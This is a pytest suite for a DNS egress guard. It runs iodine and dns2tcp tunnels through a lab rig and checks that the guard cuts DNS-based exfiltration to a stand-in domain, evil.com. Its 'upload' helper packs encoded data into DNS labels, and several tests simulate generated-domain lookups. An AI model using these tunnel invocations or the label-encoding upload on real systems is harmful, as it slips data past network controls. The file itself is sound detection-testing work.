"""Real tunnels through the guard, below a domain that policy lets through: iodine, dns2tcp, and the
plain upload in names of addresses that is left when the answers carry nothing."""

from __future__ import annotations

import base64
import os
from contextlib import ExitStack
from typing import TYPE_CHECKING, Any

import dns.rcode
import pytest
from tests.support.dns_servers import zone_handler
from tests.support.guard_rig import Ports, Rig, ask, ede, guard_rig
from tests.support.running import wait_for as until
from tests.support.tunnel_lab import (
    DOMAIN,
    PASSWORD,
    TunnelServer,
    client_namespace,
    inside,
    stop,
    unguarded,
    wait_for,
)

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytestmark = pytest.mark.root

POLICY = "{egress: v1, project: p, posture: public, allow: [{to: [.evil.com, .cdn.example.org]}]}"
WITH_RECORDS = POLICY.replace("[{to:", "[{records: true, to:")
TYPES = ("A", "CNAME", "MX", "SRV", "TXT", "PRIVATE", "NULL")
ALL = ("", *TYPES)  # without a type the tool tries them all
BOUND = 2048  # octets that may have left in names when it is over, with all clients together
DNS2TCPD = """listen = 127.0.0.1
port = 53
user = nobody
chroot = /tmp
domain = {domain}
resources = self:127.0.0.1:9
"""


@pytest.fixture
def server(tmp_path: Path) -> Iterator[TunnelServer]:
    server = TunnelServer(tmp_path)
    yield server
    server.close()


@pytest.fixture
def rig(tmp_path: Path, server: TunnelServer) -> Iterator[Rig]:
    with guard_rig(tmp_path, server.handle) as rig:
        rig.snapshot(POLICY)
        yield rig


def iodined(server: TunnelServer) -> Any:
    process = server.start(
        "iodined", "-f", "-c", "-P", PASSWORD, "-l", "127.0.0.1", "10.99.0.1/24", DOMAIN
    )  # fmt: skip
    assert wait_for(process, b"Listening", 5)[0]
    return process


def iodine(path: Path, kind: str) -> Any:
    kinds = ["-T", kind] if kind else []
    return inside(path, "iodine", "-f", "-r", "-P", PASSWORD, *kinds, "127.0.0.1", DOMAIN)


@pytest.mark.parametrize("kind", ["A", "NULL"])
def test_iodine_works_here_without_a_guard(tmp_path: Path, server: TunnelServer, kind: str) -> None:
    process = iodined(server)
    with client_namespace(tmp_path, "c") as (path, sockets), unguarded(server, sockets):
        client = iodine(path, kind)
        try:
            assert wait_for(client, b"Connection setup complete", 15)[0]
        finally:
            stop(client)
            stop(process)


def test_iodine_gets_no_tunnel_through_the_guard(tmp_path: Path, server: TunnelServer, rig: Rig) -> None:
    process = iodined(server)
    with ExitStack() as stack:
        clients = {}
        for kind in ALL:
            name = f"c{kind.lower()}"
            path, sockets = stack.enter_context(client_namespace(tmp_path, name))
            rig.add_jail(name, "p", sockets)
            clients[kind] = iodine(path, kind)
        try:
            heard = {
                kind: wait_for(client, b"Connection setup complete", 3.0) for kind, client in clients.items()
            }
        finally:
            for client in clients.values():
                stop(client)
            stop(process)
    assert [kind for kind, (done, _) in heard.items() if done] == []
    assert all(b"dns0" in out or b"Sending" in out for _, out in heard.values())  # they did try
    assert server.octets <= BOUND
    assert {kind for _, kind in rig.server.seen} <= {"A", "AAAA"}


@pytest.mark.parametrize("kind", ["TXT", "SRV"])
def test_iodine_is_cut_where_its_record_types_are_allowed(
    tmp_path: Path, server: TunnelServer, rig: Rig, kind: str
) -> None:
    """A rule with `records` for its domain is all it could wish for; its probes are too long already."""
    rig.snapshot(WITH_RECORDS)
    process = iodined(server)
    with client_namespace(tmp_path, "c") as (path, sockets):
        rig.add_jail("c", "p", sockets)
        client = iodine(path, kind)
        try:
            until(lambda: any(record.reason_code == "dns.tunnel" for record in rig.dns_records()))
            wait_for(client, b"Connection setup complete", 2.0)  # it believes so, hearing nothing
        finally:
            stop(client)
            stop(process)
    assert kind in {seen for _, seen in rig.server.seen}
    assert server.octets <= BOUND


@pytest.mark.parametrize("kind", ["TXT", "KEY"])
def test_dns2tcp_gets_no_tunnel_through_the_guard(
    tmp_path: Path, server: TunnelServer, rig: Rig, kind: str
) -> None:
    (tmp_path / "d.conf").write_text(DNS2TCPD.format(domain=DOMAIN))
    process = server.start("dns2tcpd", "-F", "-d", "1", "-f", str(tmp_path / "d.conf"))
    argv = ["dns2tcpc", "-z", DOMAIN, "-T", kind, "-d", "1", "127.0.0.1"]
    try:
        assert wait_for(process, b"Listening", 5)[0]
        with client_namespace(tmp_path, "w") as (path, sockets), unguarded(server, sockets):
            client = inside(path, *argv)  # lists the server's resources
            assert b"self" in wait_for(client, b"self", 10)[1]
            stop(client)
        server.octets = 0
        with client_namespace(tmp_path, "g") as (path, sockets):
            rig.add_jail("g", "p", sockets)
            client = inside(path, *argv)
            done, out = wait_for(client, b"self", 5)
            stop(client)
    finally:
        stop(process)
    assert not done, out
    assert server.octets <= BOUND
    assert kind not in {seen for _, seen in rig.server.seen}


def upload(jail: Ports, part: int, count: int, code: Any) -> int:
    """Send `count` names of `part` octets of data each; how many were answered other than by a denial."""
    passed = 0
    for i in range(count):
        data = code(i.to_bytes(3, "big") + os.urandom(part))
        labels = ".".join(data[at : at + 60] for at in range(0, len(data), 60))
        reply = ask(jail.udp, f"{labels}.{DOMAIN}")
        if (15, "dns.tunnel") in ede(reply):
            assert reply.rcode() is dns.rcode.NXDOMAIN
        else:
            passed += 1
    return passed


def base32(data: bytes) -> str:
    return base64.b32encode(data).decode().rstrip("=").lower()


@pytest.fixture
def quiet(tmp_path: Path) -> Iterator[Rig]:
    """A guard before an honest resolver where every name but one is unknown."""
    with guard_rig(tmp_path, zone_handler([("www.evil.com", 60, "A", "203.0.113.1")])) as rig:
        rig.snapshot(POLICY)
        yield rig


def octets_out(rig: Rig) -> int:
    return sum(len(name) - len(DOMAIN) for name, _ in rig.server.seen if name.endswith("." + DOMAIN))


def test_an_upload_in_long_names_is_cut(quiet: Rig) -> None:
    jail = quiet.jail("j", "p")
    passed = upload(jail, 110, 40, base32)
    assert 0 < passed < 40
    assert octets_out(quiet) <= BOUND
    assert ede(ask(jail.udp, "www.evil.com")) == [(15, "dns.tunnel")]  # the domain, not the shape, is cut
    cut = quiet.wait_for_records(lambda records: any(r.reason_code == "dns.tunnel" for r in records))
    mine = [record for record in cut if record.reason_code == "dns.tunnel"]
    assert {record.decision for record in mine} == {"deny"}
    assert mine[0].dest is not None
    assert mine[0].dest.host == "evil.com"
    assert mine[0].job == "j"


def test_an_upload_in_names_like_words_ends_with_the_budget(quiet: Rig) -> None:
    """Short names of few letters look like nothing: the budget bounds them all the same."""
    jail = quiet.jail("j", "p")
    upload(
        jail,
        12,
        480,
        lambda data: data.hex().translate(str.maketrans("0123456789abcdef", "aabbccddeeffghij")),
    )
    assert octets_out(quiet) <= 8192 + 64
    assert ede(ask(jail.udp, f"more.{DOMAIN}")) == [(15, "dns.tunnel")]
    records = quiet.dns_records()
    assert {r.reason_code for r in records if r.dest is not None and r.dest.host == "evil.com"} == {
        "dns.tunnel", "dns.tunnel_suspected",
    }  # fmt: skip


def test_one_that_is_cut_costs_nobody_else_anything(quiet: Rig) -> None:
    noisy, other = quiet.jail("noisy", "p"), quiet.jail("other", "p")
    upload(noisy, 110, 12, base32)
    assert ede(ask(noisy.udp, "www.evil.com")) == [(15, "dns.tunnel")]
    assert ask(other.udp, "www.evil.com").answer


def test_the_proxy_is_no_way_around(quiet: Rig) -> None:
    """Names in CONNECT are looked up by the guard as well, and count as the job's own."""
    errors = {
        quiet.resolve(f"{base32(os.urandom(35))}.{base32(os.urandom(35))}.{DOMAIN}").get("error")
        for _ in range(12)
    }
    assert "dns.tunnel" in errors
    assert octets_out(quiet) <= 2 * BOUND  # each name is asked for with two types, and counted once
    assert len({name for name, _ in quiet.server.seen}) < 12


def test_control_is_told_once(quiet: Rig) -> None:
    jail = quiet.jail("j", "p")
    upload(jail, 110, 20, base32)
    assert quiet.hub is not None
    told = []
    quiet.send({"t": "jail.remove", "jail": "nobody"})
    while (message := quiet.hub.next()[0])["t"] == "alert":
        told.append(message)
    assert message["t"] == "jail.removed"
    assert [(each["verdict"], each["domain"], each["subject"]["job"]) for each in told] == [
        ("deny", "evil.com", "j")
    ]
    assert "coded" in told[0]["signals"]
    assert told[0]["octets"] <= BOUND


@pytest.mark.parametrize("preset", ["standard", "strict"])
def test_names_made_by_rule_are_noticed_and_where_policy_is_strict_refused(quiet: Rig, preset: str) -> None:
    """A program that tries made-up domains until one exists: no tunnel below any, but no client either."""
    quiet.snapshot(f"{{egress: v1, project: p, posture: public, preset: {preset}}}")
    jail, other = quiet.jail("j", "p"), quiet.jail("other", "p")
    said = [ede(ask(jail.udp, f"k{i}x{i * i}.com")) for i in range(110)]
    refused = [(15, "dns.anomaly")] in said
    assert refused is (preset == "strict")
    assert len({name for name, _ in quiet.server.seen}) >= 60
    assert (ede(ask(jail.udp, "www.evil.com")) == [(15, "dns.anomaly")]) is refused
    assert ask(other.udp, "www.evil.com").answer
    wanted = "dns.anomaly" if refused else "dns.anomaly_suspected"
    records = quiet.wait_for_records(lambda records: any(r.reason_code == wanted for r in records))
    noticed = [r for r in records if r.reason_code.startswith("dns.anomaly") and r.detail]
    assert {r.detail.split(" ")[0] for r in noticed} == {"score"}
    assert all("nowhere" in r.detail for r in noticed)
